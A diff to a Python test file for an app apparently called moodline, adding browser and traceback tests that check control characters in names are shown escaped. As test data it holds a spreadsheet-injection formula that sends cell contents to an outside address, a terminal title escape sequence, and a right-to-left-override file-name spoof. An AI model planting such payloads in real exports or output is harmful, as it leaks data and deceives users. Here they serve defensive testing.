@@ -10,11 +10,16 @@ import sys
 from pathlib import Path
 
 import pytest
+from playwright.sync_api import expect
 
+from contracts.settings import Settings
 from dashboard.trends.csv_export import _line as trends_line
+from dashboard.web.backend import Backend
 from records.database import open_engine
 from records.schema import upgrade
+from tests.browser import chromium
 from tests.e2e.commands import Installation
+from tests.pages import patient_page, serving
 from tests.rows import FaceSpec, write_run
 
 FORMULA = '=HYPERLINK("http://192.0.2.1/?"&A1,"open")'
@@ -130,3 +135,33 @@ def test_the_title_of_a_report_shows_control_characters(
     assert found is not None
     assert "\\x1b]0;owned" in found[1] and "\n" not in found[1]
     assert not FORBIDDEN.search(found[1])
+
+
+def test_pages_show_the_control_characters_of_a_name(moodline: Installation) -> None:
+    engine = open_engine(f"sqlite:///{moodline.home / 'moodline.db'}")
+    with (
+        serving(Backend(engine, Settings())) as address,
+        chromium() as browser,
+        browser.new_context() as viewer,
+        patient_page(viewer) as page,
+    ):
+        for path, first in (("recordings", "tbody tr"), ("system", "#services")):
+            page.goto(f"{address}/{path}")
+            expect(page.locator(first).first).to_be_visible()
+            text = page.locator("body").inner_text()
+            assert not FORBIDDEN.search(text.replace("\t", " ")), repr(text)
+            if path == "recordings":
+                assert "\\x1b]0;owned" in text and "\\u202egpm.exe" in text
+    engine.dispose()
+
+
+def test_a_traceback_shows_control_characters() -> None:
+    raised = (
+        "from moodline.cli import _print_traceback\n"
+        f"_print_traceback(ValueError, ValueError({STEERING!r}), None)"
+    )
+    done = subprocess.run(
+        [sys.executable, "-c", raised], capture_output=True, check=True, text=True, timeout=60
+    )
+    assert "\\x1b]0;owned" in done.stderr
+    assert not FORBIDDEN.search(done.stderr)
